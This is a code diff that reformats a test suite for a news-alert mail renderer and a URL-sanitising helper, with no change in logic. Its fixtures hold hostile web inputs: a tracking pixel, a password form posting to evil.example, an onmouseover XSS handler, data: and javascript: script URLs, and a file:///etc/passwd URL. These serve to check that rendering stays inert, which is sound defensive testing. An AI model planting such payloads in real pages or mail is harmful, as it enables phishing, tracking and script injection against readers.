@@ -13,9 +13,18 @@ const hostile = entry({
   published: '2025-03-03T10:00:00Z',
   partial: true,
   matches: [
-    topicMatch('escapes', 5, ['prison'], [
-      hit('body', 'prison', '<img src="https://tracker.example/pixel.gif" width=1 height=1> the prison "wall" & <form action=https://evil.example><input name=pw></form>'),
-    ]),
+    topicMatch(
+      'escapes',
+      5,
+      ['prison'],
+      [
+        hit(
+          'body',
+          'prison',
+          '<img src="https://tracker.example/pixel.gif" width=1 height=1> the prison "wall" & <form action=https://evil.example><input name=pw></form>',
+        ),
+      ],
+    ),
   ],
   alsoIn: [
     { source: 'Mirror <b onmouseover=alert(3)>site</b>', url: 'data:text/html,<script>alert(4)</script>', title: 'copy' },
@@ -67,7 +76,13 @@ describe('untrusted content in rendered mail', () => {
   });
 
   it('keeps hostile text inert in an alert and out of the plain-text links', () => {
-    const rendered = renderAlert({ topic: { id: 'escapes', name: 'Detainee escapes' }, reason: 'score 5 ≥ 4', entries: [hostile], generatedAt: new Date(), timezone: 'UTC' });
+    const rendered = renderAlert({
+      topic: { id: 'escapes', name: 'Detainee escapes' },
+      reason: 'score 5 ≥ 4',
+      entries: [hostile],
+      generatedAt: new Date(),
+      timezone: 'UTC',
+    });
     assertInert(rendered.html);
     expect(rendered.text).not.toContain('javascript:');
     expect(rendered.text).not.toContain('data:text/html');
@@ -82,7 +97,19 @@ describe('escape helpers', () => {
   it('accepts only absolute http(s) URLs without credentials', () => {
     expect(safeHttpUrl('https://example.org/a b')).toBe('https://example.org/a%20b');
     expect(safeHttpUrl(' HTTP://Example.org ')).toBe('http://example.org/');
-    for (const unsafe of ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'data:text/html,x', 'vbscript:x', 'file:///etc/passwd', '//evil.example/x', '/relative', 'mailto:a@b.example', 'https://user:pw@example.org/', '', null]) {
+    for (const unsafe of [
+      'javascript:alert(1)',
+      'JaVaScRiPt:alert(1)',
+      'data:text/html,x',
+      'vbscript:x',
+      'file:///etc/passwd',
+      '//evil.example/x',
+      '/relative',
+      'mailto:a@b.example',
+      'https://user:pw@example.org/',
+      '',
+      null,
+    ]) {
       expect(safeHttpUrl(unsafe), String(unsafe)).toBeNull();
     }
   });
